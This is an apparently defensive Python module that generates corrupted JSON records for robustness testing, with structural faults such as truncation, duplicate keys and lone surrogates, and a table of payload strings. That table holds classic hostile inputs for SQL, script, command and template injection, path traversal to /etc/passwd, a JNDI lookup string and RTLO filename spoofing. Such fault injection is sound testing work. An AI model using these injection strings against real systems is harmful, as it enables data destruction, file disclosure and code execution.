"""Faults that no schema speaks of: records that are not whole, not JSON, or carry an attack.

Structural faults spoil the text itself; payload faults put a string where a string is that some
receivers take for something else.
"""

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from persona_assets.schema_records.violations.edits import (
    Edit,
    EditKind,
    Replacement,
    literal_at,
    replacement,
    written,
)
from persona_assets.schemas.pointers import Json, Pointer

DEFAULT_BYTE_BUDGET = 65_536
"""How many bytes of UTF-8 an oversized record has at most, unless told otherwise."""

_MOST_PLACES = 64
_FILLER = "A"
_STEPS = 1 << 16


@dataclass(frozen=True, slots=True)
class TextFault:
    """What one fault does to a record.

    Attributes:
        name: What it is called, such as ``truncated``.
        fault_class: What kind of trouble it is: transmission, encoding, format, boundary, payload.
        path: The way to the value that is spoilt; () for the whole record.
        change: The piece of text that is replaced.
        reaction: What a careful receiver does.
    """

    name: str
    fault_class: str
    path: Pointer
    change: Replacement
    reaction: str


@dataclass(frozen=True, slots=True)
class Room:
    """What a fault has to work with.

    Attributes:
        text: The record.
        way: A number from 0 to 65,535 that chooses among ways.
        strings: The ways to its strings; empty when it has none.
        byte_budget: How many bytes of UTF-8 it may become.
    """

    text: str
    way: int
    strings: tuple[Pointer, ...]
    byte_budget: int = DEFAULT_BYTE_BUDGET

    @property
    def string(self) -> Pointer | None:
        """The way to one of the strings."""
        return self.strings[self.way % len(self.strings)] if self.strings else None


Spoil = Callable[[Room], TextFault | None]


def room(text: str, value: Json, way: int, byte_budget: int = DEFAULT_BYTE_BUDGET) -> Room:
    """Return the room for faults of the record *text*, whose content is *value*."""
    found = [path for _, path in zip(range(_MOST_PLACES), _strings(value, ()), strict=False)]
    return Room(text, way, tuple(found), byte_budget)


def structural_fault(space: Room) -> TextFault:
    """Return a structural fault, chosen by the room's way among those that fit the record."""
    return _first_fit(space, _STRUCTURAL) or _truncated(space)


def payload_fault(space: Room) -> TextFault | None:
    """Return a payload fault, or None when the record has no string."""
    return _first_fit(space, _PAYLOAD)


def _first_fit(space: Room, spoils: tuple[Spoil, ...]) -> TextFault | None:
    start = space.way % len(spoils)
    for spoil in spoils[start:] + spoils[:start]:
        fault = spoil(space)
        if fault is not None and fault.change.original != fault.change.mutated:
            return fault
    return None


def _truncated(space: Room) -> TextFault:
    """Cut the end off; what is left is not JSON unless the record is a bare number."""
    last = len(space.text) - 1
    place = 1 + space.way * max(last - 1, 0) // _STEPS
    if not space.text.startswith(("{", "[", '"')):
        place = 0
    return _whole("truncated", "transmission", Replacement(place, space.text[place:], ""))


def _trailing_comma(space: Room) -> TextFault | None:
    if not space.text.endswith(("}", "]")):
        return None
    return _whole("trailing_comma", "format", Replacement(len(space.text) - 1, "", ",,"))


def _byte_order_mark(space: Room) -> TextFault | None:
    del space  # it goes before every record
    return _whole("byte_order_mark", "encoding", Replacement(0, "", "\ufeff"))


def _twice(space: Room) -> TextFault | None:
    """Say it twice: two records where one should be; digits said twice are one number."""
    if not space.text.startswith(("{", "[", '"')) and _is_json(space.text * 2):
        return None
    return _whole("duplicated", "transmission", Replacement(len(space.text), "", space.text))


def _duplicate_key(space: Room) -> TextFault | None:
    """Repeat the first member with another value: who reads it takes one or the other."""
    value = json.loads(space.text)
    if not isinstance(value, dict) or not value:
        return None
    name = next(iter(value))
    other = '"duplicate"' if value[name] is None else "null"
    change = Replacement(
        space.text.index("}", len(space.text) - 1), "", f",{written(name)}:{other}"
    )
    return TextFault("duplicate_key", "format", (name,), change, "reject_400")


def _lone_surrogate(space: Room) -> TextFault | None:
    """Put half a surrogate pair into a string: no text in any encoding of Unicode."""
    return _in_string(space, "lone_surrogate", lambda inner: inner + "\\ud83d")


def _control_character(space: Room) -> TextFault | None:
    """Put a raw control character into a string, where JSON wants it escaped."""
    return _in_string(space, "raw_control_character", lambda inner: inner + "\x01")


def _wrong_encoding(space: Room) -> TextFault | None:
    """Read the bytes of a string as Latin-1, twice if need be, and take the wrong characters."""
    string = space.string
    if string is None:
        return None
    literal = literal_at(space.text, string)
    inner = literal[1:-1]
    garbled = (inner + "\u00e9").encode().decode("latin-1")
    change = replacement(space.text, Edit(EditKind.REPLACE, string, f'"{garbled}"'))
    return TextFault("double_encoded", "encoding", string, change, "accept_garbled")


def _oversized(space: Room) -> TextFault | None:
    """Blow a string up until the record has as many bytes as the budget allows."""
    string = space.string
    missing = space.byte_budget - len(space.text.encode())
    if string is None or missing <= 0:
        return None
    literal = literal_at(space.text, string)
    longer = literal[:-1] + _FILLER * missing + '"'
    change = replacement(space.text, Edit(EditKind.REPLACE, string, longer))
    return TextFault("oversized", "boundary", string, change, "reject_413")


def _in_string(space: Room, name: str, spoilt: Callable[[str], str]) -> TextFault | None:
    string = space.string
    if string is None:
        return None
    literal = literal_at(space.text, string)
    change = replacement(space.text, Edit(EditKind.REPLACE, string, f'"{spoilt(literal[1:-1])}"'))
    return TextFault(name, "encoding", string, change, "reject_400")


def _whole(name: str, fault_class: str, change: Replacement) -> TextFault:
    return TextFault(name, fault_class, (), change, "reject_400")


def _payload(name: str, words: tuple[str, ...]) -> Spoil:
    def spoil(space: Room) -> TextFault | None:
        string = space.string
        if string is None:
            return None
        word = words[space.way // len(_WORDS) % len(words)]
        change = replacement(space.text, Edit(EditKind.REPLACE, string, written(word)))
        return TextFault(name, "payload", string, change, "accept_escaped")

    return spoil


def _is_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def _strings(value: Json, path: Pointer) -> Iterator[Pointer]:
    """Yield the ways to the strings of *value*."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from _strings(item, (*path, name))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _strings(item, (*path, str(index)))


_WORDS: Mapping[str, tuple[str, ...]] = {
    "sql_injection": ("' OR '1'='1", "'; DROP TABLE users; --", "1; SELECT pg_sleep(10)"),
    "script_injection": ("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>"),
    "command_injection": ("; cat /etc/passwd", "$(reboot)", "`id`"),
    "path_traversal": ("../../../../etc/passwd", "..\\..\\windows\\win.ini"),
    "template_injection": ("{{7*7}}", "${jndi:ldap://example.com/a}", "<%= 7 * 7 %>"),
    "format_string": ("%s%s%n", "%x" * 8),
    "unusual_unicode": (
        "\u202egnp.exe", "\u0130\u0131", "Z\u0351\u036b", "\U0001f469\u200d\U0001f4bb", "\ufeff",
        "\uff1cscript\uff1e", "\u0645\u0631\u062d\u0628\u0627",
    ),
    "null_character": ("\x00", "admin\x00.png"),
}  # fmt: skip

_STRUCTURAL: tuple[Spoil, ...] = (
    _truncated, _duplicate_key, _oversized, _wrong_encoding, _lone_surrogate, _byte_order_mark,
    _trailing_comma, _control_character, _twice,
)  # fmt: skip
_PAYLOAD: tuple[Spoil, ...] = tuple(_payload(name, words) for name, words in _WORDS.items())
